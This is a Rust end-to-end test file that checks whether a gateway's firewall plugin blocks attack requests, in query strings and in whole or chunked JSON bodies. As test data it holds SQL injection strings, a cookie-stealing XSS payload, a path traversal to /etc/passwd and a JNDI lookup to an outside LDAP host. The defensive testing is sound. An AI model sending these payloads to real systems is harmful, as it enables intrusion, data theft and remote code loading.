//! The plugin in the gateway's request path: attacks on applications end there, ordinary requests pass.

use std::sync::Arc;

use anyhow::{Result, ensure};
use e2e::edge;
use e2e::oauth;
use e2e::stack::StackInfo;
use reqwest::{Method, StatusCode};
use serde_json::json;

/// What the firewall's problem documents are of (plugins/filters/waf).
const BLOCKED: &str = "request-blocked";

/// R90: with a token that every other layer accepts, what looks like an attack does not reach the application.
pub(super) async fn attack_injection_ends_at_the_firewall_plugin(
    stack: Arc<StackInfo>,
) -> Result<()> {
    let client = edge::client(&stack)?;
    let token = oauth::tokens(&stack, "alice").await?.access;
    let get = async |query: &str| {
        let mut url = stack.api_url().join("/v1/catalogue")?;
        url.set_query(Some(query));
        anyhow::Ok(client.get(url).bearer_auth(&token).send().await?)
    };
    let control = get("sort=price").await?.status();
    ensure!(control == StatusCode::OK, "an ordinary question: {control}");
    for query in [
        "sort=1%27%20OR%20%271%27=%271",
        "sort=price%253B%2520DROP%2520TABLE%2520orders--",
        "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "file=..%2f..%2f..%2fetc%2fpasswd",
        "q=%24%7Bjndi:ldap://192.0.2.1/a%7D",
    ] {
        let answer = get(query).await?;
        let (status, text) = (answer.status(), answer.text().await?);
        ensure!(
            status == StatusCode::FORBIDDEN && text.contains(BLOCKED),
            "{query}: {status} {text}"
        );
    }
    Ok(())
}

/// R90: bodies are looked into before a byte of them goes on, however they are sent.
pub(super) async fn attack_injection_in_a_body_ends_at_the_firewall_plugin(
    stack: Arc<StackInfo>,
) -> Result<()> {
    let client = edge::client(&stack)?;
    let token = oauth::tokens(&stack, "alice").await?.access;
    let attack =
        json!({ "lines": [{ "sku": "x' UNION SELECT password FROM users --", "quantity": 1 }] });
    let whole = attack.to_string();
    let parts: Vec<_> = whole
        .as_bytes()
        .chunks(7)
        .map(|part| Ok::<_, std::io::Error>(part.to_vec()))
        .collect();
    let chunked = reqwest::Body::wrap_stream(futures_util::stream::iter(parts));
    for (how, body) in [
        ("whole", reqwest::Body::from(whole.clone())),
        ("in chunks", chunked),
    ] {
        let url = stack.api_url().join("/v1/orders")?;
        let answer = client
            .request(Method::POST, url)
            .bearer_auth(&token)
            .header("content-type", "application/json")
            .header("idempotency-key", "attack")
            .body(body)
            .send()
            .await?;
        let (status, text) = (answer.status(), answer.text().await?);
        ensure!(
            status == StatusCode::FORBIDDEN && text.contains(BLOCKED),
            "{how}: {status} {text}"
        );
    }
    Ok(())
}
